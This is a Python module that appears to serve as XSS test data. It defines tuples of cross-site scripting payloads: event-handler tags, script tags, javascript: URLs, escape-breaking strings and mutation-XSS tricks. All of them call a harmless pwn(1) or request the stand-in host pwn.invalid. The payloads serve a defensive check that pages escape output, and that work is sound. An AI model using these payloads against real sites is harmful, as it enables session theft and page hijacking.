"""Texts that run as script wherever a page forgets to escape one: in text, attributes, addresses, script, SVG.

Each calls pwn(1), sets __pwn or asks for https://pwn.invalid; a page that shows them as they were written runs none.
"""

CALL = "pwn(1)"
EVENTS = (
    *(f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>", f"<body onload={CALL}>"),
    *(f"<video src=x onerror={CALL}></video>", f"<audio src=x onerror={CALL}></audio>"),
    *(f"<details open ontoggle={CALL}>x</details>", f"<input autofocus onfocus={CALL}>"),
    *(f"<select autofocus onfocus={CALL}></select>", f"<textarea autofocus onfocus={CALL}></textarea>"),
    *(f"<button autofocus onfocus={CALL}>x</button>", f"<a href=# autofocus onfocus={CALL}>x</a>"),
    *(f"<link rel=stylesheet href=x onerror={CALL}>", f"<iframe onload={CALL}></iframe>"),
    *(f"<object data=x onerror={CALL}></object>", f"<embed src=/static/img/icon.svg onload={CALL}>"),
    *(f"<style onload={CALL}></style>", f"<script src=x onerror={CALL}></script>"),
    *(f"<svg><image href=x onerror={CALL}></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>"),
    *(f"<svg><set onbegin={CALL} attributeName=x>", f"<image src=x onerror={CALL}>"),
    *(f"<img srcset=x onerror={CALL}>", f"<picture><source srcset=x><img onerror={CALL}></picture>"),
    f"<p style='animation:x 1s' onanimationstart={CALL}>x</p><style>@keyframes x{{}}</style>",
    f"<xss contenteditable autofocus tabindex=1 onfocus={CALL}>x</xss>",
)
SCRIPTS = (
    *(f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<script >{CALL}</script >"),
    *(f"<svg><script>{CALL}</script></svg>", f"<script\n>{CALL}</script\n>", f"<script/x>{CALL}</script>"),
    *("<script>alert(1)</script>", "<script>confirm(1)</script>", "<script>prompt(1)</script>"),
    *("<script>console.log('pwn')</script>", "<script src=https://pwn.invalid/x.js></script>"),
    *("<script>fetch('https://pwn.invalid/')</script>", "<script>pwn`1`</script>"),
    *("<script>__pwn=1</script>", "<img src=x onerror=__pwn=1>"),
)
REQUESTS = (
    *("<img src=https://pwn.invalid/x>", "<link rel=stylesheet href=https://pwn.invalid/x.css>"),
    *("<iframe src=https://pwn.invalid/></iframe>", "<style>@import'https://pwn.invalid/x.css'</style>"),
    *(
        "<base href=https://pwn.invalid/><img src=x>",
        "<meta http-equiv=refresh content='0;https://pwn.invalid/'>",
    ),
    *("<input type=image src=https://pwn.invalid/x>", "<video poster=https://pwn.invalid/x></video>"),
    "<p style='background:url(https://pwn.invalid/x)'>x</p>",
)
FRAMES = (
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<form id=f action=javascript:{CALL}><button>x</button></form><script>f.submit()</script>",
)
BREAKING_OUT = (
    *(
        f"{end}<img src=x onerror={CALL}>"
        for end in ('">', "'>", "-->", "</title>", "</textarea>", "</option></select>")
    ),
    *(f"{end}<script>{CALL}</script>" for end in ("</script>", "</style>", "]]>", "</datalist>", "</svg>")),
    *(f'" autofocus onfocus={CALL} x="', f"' autofocus onfocus={CALL} x='", f"x onfocus={CALL} autofocus"),
    *(f'"hx-on:load="{CALL}" data-hx-trigger="load', f"<div hx-on:htmx:load={CALL}>x</div>"),
    *(f"javascript:{CALL}", f"java\tscript:{CALL}", f"data:text/html,<script>parent.{CALL}</script>"),
    *(
        f"${{{CALL}}}",
        f"{{{{{CALL}}}}}",
        f"`-{CALL}-`",
        f"';{CALL}//",
        f'";{CALL}//',
        f"\\u003cimg src=x onerror={CALL}>",
    ),
    *(f"<script>/*</script><script>*/{CALL}</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>"),
    f"<object data=javascript:{CALL}></object>",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
)
RUNNING = EVENTS + SCRIPTS + REQUESTS + FRAMES  # these run by themselves in a page that escapes nothing
PAYLOADS = RUNNING + BREAKING_OUT
